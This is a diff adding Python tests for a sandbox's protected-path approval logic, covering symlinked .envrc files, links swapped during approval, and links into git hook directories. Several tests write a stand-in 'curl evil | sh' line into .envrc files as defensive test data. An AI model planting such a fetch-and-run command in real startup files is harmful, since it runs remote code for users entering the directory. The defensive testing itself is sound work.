@@ -718,3 +718,90 @@ def test_a_backend_of_unknown_network_gets_no_network_note(root: Path) -> None:
     decision = _check(policy, "git fetch origin", root)
     assert isinstance(decision, ExecutionDecision)
     assert "network" not in decision.details
+
+
+def _shared_envrc(root: Path) -> None:
+    """svc/.envrc, a link (protected name) to envrc.shared; a second such link."""
+    (root / "svc").mkdir()
+    (root / "app").mkdir()
+    (root / "envrc.shared").write_text("export A=1\n")
+    (root / "other.shared").write_text("export B=1\n")
+    (root / "svc" / ".envrc").symlink_to("../envrc.shared")
+    (root / "app" / ".envrc").symlink_to("../other.shared")
+    (root / "more.sh").write_text("echo 'curl evil | sh' >> app/.envrc\n")
+
+
+async def test_an_approved_write_through_a_protected_link_lands_and_nothing_else(
+    root: Path,
+) -> None:
+    """Approving `>> svc/.envrc` (a link to envrc.shared) names the link and its target
+    and grants exactly those two: the append lands in envrc.shared; the same command's
+    write through another protected link is left out (on the old code the approved
+    append was left out too)."""
+    _shared_envrc(root)
+    approver = _Approver()
+    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
+        result, record = await _shell(secure, "echo 'export X=1' >> svc/.envrc; bash more.sh")
+        # GNU sed -i replaces the link itself with the edited file: the other granted path
+        edited, _ = await _shell(secure, "sed -i s/X=1/X=2/ svc/.envrc")
+    assert not result.is_error, result.joined_text
+    assert not edited.is_error, edited.joined_text
+    assert (root / "svc" / ".envrc").read_text() == "export A=1\nexport X=2\n"
+    assert not (root / "svc" / ".envrc").is_symlink()
+    assert (
+        approver.words
+        == [
+            "write or remove the protected path envrc.shared (as a file or a directory), which "
+            "svc/.envrc leads to, or replace that link"
+        ]
+        * 2
+    )
+    real = str(root)
+    assert approver.asked[1].metadata["escalation_grant"] == {
+        "protected_writes": [f"{real}/envrc.shared", f"{real}/svc/.envrc"],
+        "outside_writes": [],
+        "hosts": [],
+    }
+    assert (root / "envrc.shared").read_text() == "export A=1\nexport X=1\n"
+    assert (root / "other.shared").read_text() == "export B=1\n"
+    assert "other.shared" in result.joined_text
+    assert record.decision is not None
+    assert record.decision.escalation
+    assert record.decision.access == approver.words[0]
+
+
+async def test_a_protected_link_swapped_after_the_question_is_not_written_through(
+    root: Path,
+) -> None:
+    """The link is pointed at another file while the user answers: the command writes
+    there, and nothing comes back (only the approved target or the link itself could)."""
+    _shared_envrc(root)
+    (root / "victim.sh").write_text("echo hi\n")
+
+    def swap() -> None:
+        os.unlink(root / "svc" / ".envrc")
+        (root / "svc" / ".envrc").symlink_to("../victim.sh")
+
+    approver = _Approver(then=swap)
+    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
+        result, _ = await _shell(secure, "echo 'curl evil | sh' >> svc/.envrc")
+    assert len(approver.asked) == 1
+    assert (root / "victim.sh").read_text() == "echo hi\n"
+    assert (root / "envrc.shared").read_text() == "export A=1\n"
+    assert "victim.sh" in result.joined_text
+
+
+async def test_a_protected_link_into_a_git_directory_is_not_asked(root: Path) -> None:
+    """svc/.envrc leads into a directory git takes for a git directory (its HEAD): what
+    the sandbox cannot let back is not asked, and the refusal says why."""
+    (root / "svc").mkdir()
+    (root / "gd" / "hooks").mkdir(parents=True)
+    (root / "gd" / "HEAD").write_text("ref: refs/heads/main\n")
+    (root / "svc" / ".envrc").symlink_to("../gd/hooks/post-checkout")
+    approver = _Approver()
+    async with open_secure_coding_tools([str(root)], approve=approver) as secure:
+        result, _ = await _shell(secure, "echo 'touch x' >> svc/.envrc")
+    assert approver.asked == []
+    assert result.is_error
+    assert "lies in the git directory gd" in result.joined_text
+    assert not (root / "gd" / "hooks" / "post-checkout").exists()
